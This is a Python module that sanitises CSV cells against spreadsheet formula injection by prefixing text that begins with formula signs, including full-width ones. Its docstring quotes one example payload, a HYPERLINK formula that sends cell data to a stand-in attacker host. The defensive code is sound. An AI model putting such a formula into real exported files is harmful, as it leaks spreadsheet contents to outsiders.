"""Writing CSV cells that spreadsheets open safely: the one place every CSV download goes through.

Excel, LibreOffice and Google Sheets evaluate a cell that begins with `=`, `+`, `-` or `@` (and
after a tab, a carriage return, a line feed or a NUL) as a formula (OWASP: CSV injection): a
curated name such as `=HYPERLINK("http://evil.example/?x="&A1,"Click me")` would become a live link
in the reader's spreadsheet. Such a cell is written with a leading `'`, which spreadsheets read as
"this is text" and do not show. The full-width signs (＝＋－＠), which East Asian input methods type
and some spreadsheets read as the ASCII ones, and a sign after leading spaces are treated the same.
Numbers are left as numbers. Only downloads meant for spreadsheets do this: JSON and the pages
keep the text exactly.
"""

FORMULA_STARTS = frozenset("=+-@\t\r\n\0\uff1d\uff0b\uff0d\uff20")
LEADING_SPACES = " \u00a0\u3000"


def spreadsheet_text(value):
    """`value`, with a leading `'` if it is text a spreadsheet would read as a formula."""
    if not isinstance(value, str) or not value:
        return value
    if value[0] in FORMULA_STARTS or value.lstrip(LEADING_SPACES)[:1] in FORMULA_STARTS:
        return "'" + value
    return value


def csv_cell(value) -> str | int | float:
    """A value as a CSV cell: None as empty, numbers as they are, text safe from formulas."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | float):
        return value
    return spreadsheet_text(str(value))


def csv_row(values) -> list:
    return [csv_cell(value) for value in values]
